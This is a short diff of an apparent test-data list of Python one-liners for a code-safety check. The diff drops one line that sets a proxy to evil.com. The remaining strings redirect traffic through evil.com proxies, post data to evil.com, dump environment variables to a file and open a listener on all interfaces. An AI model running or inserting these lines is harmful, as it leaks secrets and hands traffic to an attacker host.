@@ -86,7 +86,6 @@ ORDINARY = [
 NEARBY = [
     "import os, re\nos.system(re.sub('[0-9]', '', 'l1s2'))",
     "import os, json\njson.dump(dict(os.environ), open('env.json', 'w'))",
-    "import os\nos.environ['HTTPS_PROXY'] = 'http://evil.com:8080'",
     "import urllib.request as u\nu.install_opener(u.build_opener(u.ProxyHandler({'http': 'http://evil.com:3128'})))",
     "import asyncio\nasyncio.run(asyncio.start_server(print, '0.0.0.0', 9999))",
     "import httpx\nhttpx.Client(base_url='https://evil.com').post('/x', content=b'1')",
